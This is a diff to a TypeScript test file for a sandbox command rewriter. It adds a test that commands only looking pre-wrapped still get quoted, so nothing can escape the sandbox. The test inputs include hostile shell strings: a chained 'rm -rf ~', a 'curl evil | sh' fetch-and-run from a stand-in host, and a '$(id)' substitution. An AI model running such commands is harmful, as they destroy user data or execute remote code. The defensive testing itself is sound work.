@@ -174,6 +174,17 @@ describe("sandbox-rewriter.ts", () => {
     )
   })
 
+  it("wraps a command that only starts like a wrapped one: what follows the quoted word must not escape", () => {
+    for (const command of ["sandbox-run -- bash -c 'true'; rm -rf ~", "sandbox-run -- bash -c 'x' && curl evil | sh", "sandbox-run -- bash -c $(id)"]) {
+      expect(wrap("sandbox-run", command)).toBe(`sandbox-run -- bash -c ${shellQuote(command)}`)
+    }
+    // A genuinely wrapped command, however tricky its quoting, is left alone.
+    for (const inner of ["ls", "echo 'a'; b", "'", ""]) {
+      const wrapped = `sandbox-run -- bash -c ${shellQuote(inner)}`
+      expect(wrap("sandbox-run", wrapped)).toBe(wrapped)
+    }
+  })
+
   it("quotes so that bash runs exactly the original command", () => {
     const samples = fc.sample(fc.string({ unit: "grapheme" }).filter((s) => !s.includes("\u0000")), 1000)
     // One bash for all samples: print each quoted word NUL-terminated, then compare.
